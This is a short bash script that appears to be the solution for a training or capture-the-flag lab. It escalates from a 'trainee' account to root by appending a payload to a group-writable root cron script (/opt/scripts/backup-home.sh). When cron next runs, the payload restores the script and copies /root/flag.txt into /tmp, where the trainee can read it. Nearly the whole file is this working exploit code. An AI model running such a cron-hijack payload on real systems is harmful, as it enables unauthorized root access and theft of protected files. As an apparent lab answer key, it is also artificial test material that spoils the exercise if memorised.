#!/usr/bin/env bash
# Solution: as trainee (member of "staff"), append a payload to the root cron
# job's script /opt/scripts/backup-home.sh. On the next tick root:
#   1. restores the original script and removes the group write bit (the fix),
#   2. copies /root/flag.txt to a file trainee can read.
# sudo/SUID tricks do not work in the lab (no-new-privileges); cron does.
set -euo pipefail
: "${B2C_LAB_EXEC:?}"
$B2C_LAB_EXEC bash -s <<'SH'
set -eu
S=/opt/scripts/backup-home.sh
id; ls -l "$S"; cat /etc/cron.d/backup-home
cp "$S" /tmp/backup-home.orig && chmod 0644 /tmp/backup-home.orig
rm -f /tmp/loot.txt 2>/dev/null || true
cat >>"$S" <<'P'
cp /tmp/backup-home.orig /opt/scripts/.backup-home.new && chmod 0755 /opt/scripts/.backup-home.new && mv -f /opt/scripts/.backup-home.new /opt/scripts/backup-home.sh
cat /root/flag.txt > /tmp/loot.tmp && chmod 0644 /tmp/loot.tmp && mv -f /tmp/loot.tmp /tmp/loot.txt
P
echo "payload appended, waiting for cron..." >&2
for i in $(seq 1 40); do [ -s /tmp/loot.txt ] && break; sleep 1; done
[ -s /tmp/loot.txt ] || { echo "cron did not run the payload" >&2; exit 1; }
ls -l "$S" >&2
[ -w "$S" ] && { echo "script still writable" >&2; exit 1; }
cat /tmp/loot.txt
rm -f /tmp/backup-home.orig; rm -f /tmp/loot.txt 2>/dev/null || true   # root-owned in sticky /tmp: stays
SH
